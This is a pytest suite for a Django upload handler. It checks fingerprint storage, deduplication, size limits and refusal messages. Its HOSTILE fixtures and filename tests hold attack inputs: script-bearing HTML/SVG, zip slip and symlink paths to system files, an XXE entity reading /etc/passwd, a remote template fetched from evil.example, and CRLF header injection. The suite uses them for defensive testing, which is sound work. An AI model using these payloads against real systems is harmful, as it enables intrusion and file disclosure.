"""What is taken in, and what is refused with which sentence."""

import hashlib
import io
import os
import re
import stat
import time
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pikepdf
import pytest
from PIL import Image

from piagam.files import receiving
from piagam.files.child import ChildFailed
from piagam.files.models import StoredFile
from piagam.files.quota import quota_sentence, require_room
from piagam.files.receiving import Received, clean_name, receive
from piagam.files.refusals import BadFile
from piagam.files.storage import key_of, storage
from piagam.files.tests import made

ALL = ["pdf", "jpg", "png", "webp", "docx", "xlsx", "pptx", "mp4", "mov"]
MIB = 2**20


def take(name: str, content: bytes, allowed: list[str] | None = None, max_bytes: int = 25 * MIB) -> Received:
    return receive(made.upload(name, content), allowed=allowed or ALL, max_bytes=max_bytes)


def refusal(
    name: str, content: bytes, allowed: list[str] | None = None, max_bytes: int = 25 * MIB
) -> BadFile:
    with pytest.raises(BadFile) as refused:
        take(name, content, allowed, max_bytes)
    assert not StoredFile.objects.exists()
    assert not list(storage().digests())
    return refused.value


GOOD = [
    ("surat.pdf", made.pdf(3), "application/pdf", 3),
    ("foto.JPG", made.picture("JPEG"), "image/jpeg", 1),
    ("foto.jpeg", made.picture("JPEG"), "image/jpeg", 1),
    ("layar.png", made.picture("PNG"), "image/png", 1),
    ("foto.webp", made.picture("WEBP"), "image/webp", 1),
    ("laporan.docx", made.office(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document", None),
    ("data.xlsx", made.office("xl/workbook.xml"),
     "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", None),
    ("paparan.pptx", made.office("ppt/presentation.xml", {"ppt/embeddings/tabel.xlsx": b"PK"}),
     "application/vnd.openxmlformats-officedocument.presentationml.presentation", None),
    ("film.mp4", made.film(), "video/mp4", None),
    ("film.mov", made.film(b"qt  "), "video/quicktime", None),
]  # fmt: skip


@pytest.mark.django_db
@pytest.mark.parametrize("name, content, media_type, pages", GOOD, ids=[row[0] for row in GOOD])
def test_a_good_file_is_stored_under_its_fingerprint(
    name: str, content: bytes, media_type: str, pages: int | None, own_folder: Path
) -> None:
    got = take(name, content)
    stored = got.stored_file
    digest = hashlib.sha256(content).hexdigest()
    assert (stored.sha256, stored.size, stored.media_type, stored.pages) == (
        digest,
        len(content),
        media_type,
        pages,
    )
    assert (got.original_name, got.created, stored.scan_state) == (name, True, "unscanned")
    path = own_folder / "files" / "sha256" / digest[:2] / digest
    assert path.read_bytes() == content
    assert stat.S_IMODE(path.stat().st_mode) == 0o444
    assert os.listdir(own_folder / "files" / "incoming") == []


@pytest.mark.django_db
def test_the_same_bytes_are_stored_once() -> None:
    content = made.pdf()
    assert take("a.pdf", content).created
    again = take("b.pdf", content)
    assert (again.created, again.original_name) == (False, "b.pdf")
    assert StoredFile.objects.count() == 1


@pytest.mark.django_db
def test_a_damaged_copy_is_healed_by_the_next_upload_of_the_same_bytes(own_folder: Path) -> None:
    content = made.pdf()
    digest = take("a.pdf", content).stored_file.sha256
    path = own_folder / "files" / key_of(digest)
    path.chmod(0o644)
    path.write_bytes(b"rusak")
    take("a.pdf", content)
    assert path.read_bytes() == content


@pytest.mark.django_db
def test_bytes_once_found_infected_are_not_taken_again() -> None:
    content = made.pdf()
    take("a.pdf", content)
    StoredFile.objects.update(scan_state="infected")
    with pytest.raises(BadFile, match="virus"):
        take("b.pdf", content)


def encrypted(user: str) -> bytes:
    return made.pdf(1, None, encryption=pikepdf.Encryption(owner="o", user=user))


def overlap(first: bytes) -> bytes:
    return first + made.office()


def zipped(entries: dict[str, bytes]) -> bytes:
    return made.office(extra=entries)


def symlinked() -> bytes:
    target = io.BytesIO(made.office())
    with zipfile.ZipFile(target, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return target.getvalue()


HOSTILE = {
    "empty": ("a.pdf", b"", "kosong"),
    "html as pdf": ("a.pdf", b"<html><script>alert(1)</script>", "tampaknya HTML"),
    "svg": ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "tampaknya SVG"),
    "program": ("a.pdf", b"MZ" + b"\0" * 200, "Yang dapat|tampaknya"),
    "png called pdf": ("a.pdf", made.picture("PNG"), "isinya PNG"),
    "pdf without ending": ("surat", made.pdf(), "isinya PDF"),
    "pdf called exe": ("surat.pdf.exe", made.pdf(), "isinya PDF"),
    "pdf after a comment": ("a.pdf", b"GIF89a" + made.pdf(), "Yang dapat|tampaknya"),
    "pdf locked": ("a.pdf", encrypted("rahasia"), "kata sandi"),
    "pdf cut short": ("a.pdf", made.pdf(3)[:120], "rusak"),
    "pdf of noise": ("a.pdf", b"%PDF-1.7\n" + b"\x93" * 3000, "rusak"),
    "pdf of no pages": ("a.pdf", made.pdf(0), "rusak"),
    "pdf script": ("a.pdf", made.pdf(1, made.add_script), "skrip"),
    "pdf script packed": (
        "a.pdf", made.pdf(1, made.add_script, object_stream_mode=pikepdf.ObjectStreamMode.generate), "skrip"),
    "pdf nested script": ("a.pdf", made.pdf(1, made.add_nested_script), "skrip"),
    "pdf named script": ("a.pdf", made.pdf(1, made.add_named_script), "skrip"),
    "pdf script spelt oddly": (
        "a.pdf", made.pdf(1, made.add_script).replace(b"/JavaScript", b"/J#61vaScript"), "skrip"),
    "pdf launch": ("a.pdf", made.pdf(1, made.add_launch), "program lain"),
    "pdf attachment": ("a.pdf", made.pdf(1, made.add_attachment), "lampiran"),
    "pdf form": ("a.pdf", made.pdf(1, made.add_form), "XFA"),
    "pdf media": ("a.pdf", made.pdf(1, made.add_media), "media aktif"),
    "pdf and zip": ("a.pdf", overlap(made.pdf()), "lebih dari satu"),
    "picture and zip": ("a.jpg", overlap(made.picture()), "lebih dari satu"),
    "picture cut short": ("a.jpg", made.picture()[:9000], "rusak"),
    "pixel flood": ("a.png", made.png_that_claims(65_000, 65_000), "megapiksel"),
    "zip called docx": ("a.docx", made.office("x.txt"), "tidak sesuai"),
    "xlsx called docx": ("a.docx", made.office("xl/workbook.xml"), "tidak sesuai"),
    "zip bomb": ("a.docx", zipped({"word/media/a.bin": b"\0" * (30 * MIB)}), "terlalu besar"),
    "zip of many": ("a.docx", zipped({f"x/{n}": b"" for n in range(2100)}), "terlalu besar"),
    "zip slip": ("a.docx", zipped({"../../etc/cron.d/x": b"x"}), "rusak"),
    "zip link": ("a.docx", symlinked(), "rusak"),
    "zip damaged": ("a.docx", made.office().replace(b"<w/>", b"<x/>").replace(b"PK\1\2", b"PK\7\7"), "rusak"),
    "macro": ("a.docx", zipped({"word/vbaProject.bin": b"x"}), "makro"),
    "archive inside": ("a.docx", zipped({"word/embeddings/a.zip": b"x"}), "arsip"),
    "entity": (
        "a.docx", zipped({"word/styles.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'}), "aman"),
    "template elsewhere": ("a.docx", zipped({"word/_rels/settings.xml.rels":
        b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"'
        b' TargetMode="External"/></Relationships>'}), "tempat lain"),
    "office locked": ("a.docx", receiving.OLE + b"\0" * 600, "kata sandi"),
    "film cut short": ("a.mp4", made.film()[:-100], "rusak"),
    "film without contents": ("a.mp4", made.box(b"ftyp", b"mp42\0\0\0\0mp42"), "rusak"),
    "iphone picture": ("a.jpg", made.box(b"ftyp", b"heic\0\0\0\0mif1heic") + b"\0" * 100, "tampaknya HEI"),
}  # fmt: skip


@pytest.mark.django_db
@pytest.mark.parametrize("name, content, sentence", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_or_broken_file_is_refused_with_a_sentence(
    name: str, content: bytes, sentence: str
) -> None:
    began = time.monotonic()
    no = refusal(name, content)
    assert re.search(sentence, str(no.sentence)), no.sentence
    assert no.status == 400
    assert time.monotonic() - began < 5


@pytest.mark.django_db
def test_what_only_looks_like_a_script_is_taken() -> None:
    assert take("a.pdf", made.pdf(1, made.add_harmless_lookalikes)).created
    mark = b"PK\5\6" + b"\x93" * 18  # by chance so in one scan of many thousands
    assert take("d.pdf", made.pdf(1, lambda pdf: made.add_stream(pdf, mark), compress_streams=False)).created
    assert take("d.jpg", made.picture(size=(60, 40), comment=mark)).created
    assert take("b.pdf", encrypted("")).created, "a print restriction is no lock"
    rels = (b'<Relationships><Relationship Id="r" Type="http://x/hyperlink" Target="https://bengkulukota.go.id" '
            b'TargetMode="External"/><Relationship Id="s" Type="http://x/attachedTemplate" '
            b'Target="file:///C:/Users/a/Normal.dotm" TargetMode="External"/></Relationships>')  # fmt: skip
    assert take("c.docx", made.office(extra={"word/_rels/document.xml.rels": rels})).created


@pytest.mark.django_db
def test_only_what_is_asked_for_is_taken() -> None:
    no = refusal("film.mp4", made.film(), ["pdf", "jpg"])
    assert "PDF, JPG" in str(no.sentence)


@pytest.mark.django_db
def test_a_file_over_the_limit_is_cut_off_while_it_comes() -> None:
    assert refusal("a.pdf", made.pdf(), max_bytes=100).status == 413

    class Endless:
        name = "a.pdf"
        sent = 0

        def chunks(self, chunk_size: int | None = None) -> Iterator[bytes]:
            while True:
                self.sent += 1
                yield b"%PDF-" + b"x" * 65531

    endless = Endless()
    with pytest.raises(BadFile, match="terlalu besar"):
        receive(endless, allowed=["pdf"], max_bytes=MIB)
    assert endless.sent == 17


@pytest.mark.django_db
def test_a_large_film_is_never_whole_in_memory() -> None:
    class Film:
        name = "panjang.mp4"

        def chunks(self, chunk_size: int | None = None) -> Iterator[bytes]:
            yield made.box(b"ftyp", b"mp42\0\0\0\0mp42") + made.box(b"moov", b"\0" * 40)
            yield (200 * MIB + 8).to_bytes(4) + b"mdat"
            for _n in range(200):
                yield bytes(MIB)

    tracemalloc.start()
    got = receive(Film(), allowed=["mp4"], max_bytes=300 * MIB)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert got.stored_file.size > 200 * MIB
    assert peak < 8 * MIB


@pytest.mark.django_db
def test_a_reader_that_dies_or_hangs_refuses_the_file(monkeypatch: pytest.MonkeyPatch) -> None:
    def dead(*_args: object) -> None:
        raise ChildFailed("timeout")

    monkeypatch.setattr(receiving, "ask_child", dead)
    assert "terlalu berat" in str(refusal("a.pdf", made.pdf()).sentence)


@pytest.mark.parametrize(
    "given, kept",
    [
        ("../../etc/passwd", "passwd"), ("C:\\Users\\a\\SK Wali Kota.pdf", "SK Wali Kota.pdf"),
        ("a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie: x=1.pdf"), ("foto\u202efdp.exe", "fotofdp.exe"),
        ("", "berkas"), ("...", "berkas"), ("n" * 400 + ".pdf", "n" * 196 + ".pdf"), ("Jalan É.pdf", "Jalan É.pdf"),
    ],
)  # fmt: skip
def test_a_name_is_only_a_label(given: str, kept: str) -> None:
    assert clean_name(given) == kept


def test_the_store_has_no_place_for_anything_but_a_fingerprint() -> None:
    for name in ("../x", "a" * 63, "A" * 64, "/etc/passwd", "0" * 63 + "/"):
        with pytest.raises(ValueError, match="SHA-256"):
            key_of(name)


def test_the_quota_is_told_in_one_sentence() -> None:
    assert quota_sentence(1_288_490_189, 5 * 2**30) == "Terpakai 1,2\xa0GB dari 5,0\xa0GB; sisa 3,8\xa0GB."
    require_room(10, used=90, limit=100)
    with pytest.raises(BadFile) as refused:
        require_room(11, used=90, limit=100)
    assert refused.value.status == 413


@pytest.mark.django_db
def test_parts_that_a_killed_process_left_are_swept_after_a_day(own_folder: Path) -> None:
    take("a.pdf", made.pdf())
    old, young = (own_folder / "files" / "incoming" / name for name in ("old", "young"))
    for part in (old, young):
        part.write_bytes(b"x")
    os.utime(old, (0, 0))
    take("b.pdf", made.pdf(1))
    assert (old.exists(), young.exists()) == (False, True)


def test_pictures_are_made_as_the_tests_say() -> None:
    assert Image.open(io.BytesIO(made.picture())).size == (640, 480)
